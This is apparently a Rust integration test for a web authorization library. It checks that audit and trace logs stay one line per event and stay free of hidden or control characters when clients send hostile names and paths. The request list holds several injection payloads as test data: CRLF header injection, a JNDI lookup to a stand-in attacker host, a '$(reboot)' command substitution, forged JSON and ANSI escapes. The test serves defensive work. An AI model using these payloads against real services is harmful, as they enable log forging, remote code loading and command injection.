//! O07: one line for each event, and nothing on it that a client wrote as it stands.

use std::collections::HashMap;
use std::io::{self, Write};
use std::sync::{Mutex, PoisonError};
use std::time::Duration;

use portcullis_core::audit::JsonLines;
use portcullis_tests::app::Seen;
use portcullis_tests::case::Http;
use portcullis_tests::check::Problem;
use portcullis_tests::policy;
use serde_json::Value;
use tracing_subscriber::filter::Targets;
use tracing_subscriber::fmt;
use tracing_subscriber::layer::SubscriberExt;
use tracing_subscriber::util::SubscriberInitExt;

use crate::{LISTENING, ask, benches, serve};

const CLIENTS: [&str; 17] = [
    "nobody",
    "alice",
    "hostile:inj_comma",
    "hostile:inj_crlf",
    "hostile:inj_quote",
    "hostile:inj_jndi",
    "hostile:inj_special",
    "hostile:nul_cn",
    "hostile:badutf8_cn",
    "hostile:rtl_cn",
    "hostile:zero_width_cn",
    "hostile:long_cn",
    "hostile:many_ou",
    "hostile:san_crlf",
    "stranger_hostile:inj_crlf",
    "stranger_hostile:rtl_cn",
    "stranger_hostile:nul_cn",
];

/// Method and target.
type Target = (&'static [u8], &'static [u8]);

/// At most 126 bytes each, which is what the HTTP/2 client of the tests can send.
const REQUESTS: [Target; 16] = [
    (b"GET", b"/reports/7"),
    (b"GET", b"/admin/"),
    (b"GET", b"/"),
    (b"GET", b"/whoami"),
    (b"GET", b"/reports/%0d%0aX-Role:%20admin"),
    (b"GET", b"/reports/%e2%80%ae"),
    (b"GET", "/reports/\u{202e}7".as_bytes()),
    (b"GET", "/caf\u{e9}\u{2028}\u{200b}".as_bytes()),
    (b"GET", b"/reports/\xff\xfe"),
    (b"GET", b"/reports/${jndi:ldap://attacker.test/x}"),
    (b"GET", b"/nothing\"\\nallow=\"anyone"),
    (b"GET", b"/nothing\\u000a{\"id\":\"forged\"}"),
    (b"GET", b"/reports/\x1b[31mred"),
    (b"GET", b"//admin\\..\\x"),
    (b"FOO'--", b"/nothing/$(reboot)"),
    (b"get", b"/admin/"),
];

const HEADERS: [(&str, &[u8]); 2] = [
    ("traceparent", b"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    ("origin", b"https://\xff"),
];

static LOGS: Mutex<[Vec<u8>; 2]> = Mutex::new([Vec::new(), Vec::new()]);

/// One of the two logs of this process: as JSON and as text.
struct Log(usize);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        LOGS.lock().unwrap_or_else(PoisonError::into_inner)[self.0].write(bytes)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn logged(number: usize) -> String {
    let logs = LOGS.lock().unwrap_or_else(PoisonError::into_inner);
    String::from_utf8(logs[number].clone()).expect("a log is text")
}

#[tokio::test(flavor = "multi_thread")]
async fn o07_hostile_names_and_paths_stay_on_one_line() {
    let _alone = LISTENING.lock().await;
    let json = fmt::layer().json().with_writer(|| Log(0));
    let text = fmt::layer().with_ansi(false).with_writer(|| Log(1));
    let ours = Targets::new().with_target("portcullis", tracing::Level::TRACE);
    tracing_subscriber::registry().with(json).with(text).with(ours).init();

    let folder = tempfile::tempdir().unwrap();
    for bench in benches() {
        let file = folder.path().join(bench.adapter);
        let auth = policy::builder("standard").unwrap().audit(JsonLines::to(&file).unwrap()).build().unwrap();
        let server = serve(&bench, &auth).await;
        let (mut denied, mut allowed) = (Vec::new(), 0);
        for (client, request, http) in asked() {
            let Some(received) = ask(server.address, client, http, request, &HEADERS).await else { continue };
            match Problem::of(&received) {
                Some(problem) => denied.push(problem.id),
                None => allowed += usize::from(serde_json::from_slice::<Seen>(&received.body).is_ok()),
            }
        }
        assert!(denied.len() > 100 && allowed > 70, "{}: {} {allowed}", bench.adapter, denied.len());
        assert!(auth.flush_audit(Duration::from_secs(10)));
        assert_eq!(auth.audit_losses().total(), 0);
        assert_audited(bench.adapter, &std::fs::read(&file).unwrap(), &denied, allowed);
        assert_logged(bench.adapter, &denied);
        (server.stop)().await;
    }
    assert_lines(&logged(1));
}

/// Every client with a few requests, and a few clients with every request.
fn asked() -> impl Iterator<Item = (&'static str, Target, Http)> {
    let few = |number: usize| number < 4;
    let requests = move |client: usize| {
        REQUESTS.into_iter().enumerate().filter(move |(number, _)| few(client) || few(*number))
    };
    let clients = CLIENTS.into_iter().enumerate();
    let asked = clients.flat_map(move |(number, client)| requests(number).map(move |(_, r)| (client, r)));
    asked.flat_map(|(client, request)| Http::ALL.map(|http| (client, request, http)))
}

/// The file has one line for each decision, in order, none of them lost, torn or made up.
fn assert_audited(adapter: &str, file: &[u8], denied: &[String], allowed: usize) {
    let text = std::str::from_utf8(file).expect("an audit file is text");
    assert_plain(text);
    assert!(text.ends_with('\n'), "{adapter}: half a line at the end");
    let events: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect(line)).collect();
    assert_eq!(events.len(), denied.len() + allowed, "{adapter}: one event for each decision");
    let numbers: Vec<_> = events.iter().map(|event| event["sequence"].as_u64().unwrap()).collect();
    assert_eq!(numbers, (1..=events.len() as u64).collect::<Vec<_>>(), "{adapter}");
    let mut ids = events.iter().filter_map(|event| event["denial_id"].as_str()).collect::<Vec<_>>();
    let mut told: Vec<_> = denied.iter().map(String::as_str).collect();
    ids.sort_unstable();
    told.sort_unstable();
    assert_eq!(ids, told, "{adapter}: the ids of the responses");
    for event in &events {
        assert_eq!(event["trace_id"], "4bf92f3577b34da6a3ce929d0e0e4736", "{event}");
        for (field, value) in event.as_object().unwrap() {
            // A backslash of the client's is doubled; single ones are escapes.
            let value = value.as_str().unwrap_or_default();
            assert!(value.chars().count() <= 2050, "{adapter}: {field} is long: {}", value.len());
        }
    }
    let names: Vec<_> = events.iter().filter_map(|event| event["name"].as_str()).collect();
    assert!(names.iter().any(|name| name.contains("CN=root")), "{adapter}: the names are there: {names:?}");
}

/// The log has one event for each denial, with the id that the client was told.
fn assert_logged(adapter: &str, denied: &[String]) {
    let log = logged(0);
    let mut events: HashMap<String, usize> = HashMap::new();
    for line in log.lines() {
        let event: Value = serde_json::from_str(line).expect(line);
        let fields = &event["fields"];
        if fields["message"] == "request denied" {
            let id = fields["id"].as_str().expect("an id");
            *events.entry(id.into()).or_default() += 1;
        }
        for value in fields.as_object().expect("fields").values() {
            // The suggestion is a block of three lines, made of escaped parts.
            let value = value.as_str().unwrap_or_default();
            let block = value.split_once(":\n[[route]]\nmatch = \"");
            let value = block.map_or(value, |(before, _)| before);
            assert_plain(value);
            assert!(!value.contains('\n'), "{value:?}");
        }
    }
    for id in denied {
        assert_eq!(events.get(id), Some(&1), "{adapter}: events of the denial {id}");
    }
}

/// As text every event is one line but the suggestion, whose block nobody can add a line to.
fn assert_lines(log: &str) {
    assert_plain(log);
    let mut lines = log.lines();
    let mut suggestions = 0;
    while let Some(line) = lines.next() {
        assert!(line.starts_with("20"), "a line that no event began: {line:?}");
        if line.ends_with("add to the policy:") {
            suggestions += 1;
            assert_eq!(lines.next(), Some("[[route]]"));
            let pattern = lines.next().unwrap();
            let inner =
                pattern.strip_prefix("match = \"").and_then(|rest| rest.strip_suffix('"')).expect(pattern);
            assert!(!inner.replace("\\\"", "").contains('"'), "the text ends early: {pattern}");
            assert!(lines.next().unwrap().starts_with("allow = \"authenticated\""));
        }
    }
    assert!(suggestions > 0, "nothing was suggested");
}

/// No character that moves, hides or turns what is written.
fn assert_plain(text: &str) {
    let odd = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{feff}')
    };
    if let Some((before, _)) = text.split_once(odd) {
        let line = text.lines().nth(before.matches('\n').count());
        panic!("an odd character: {line:?}");
    }
}
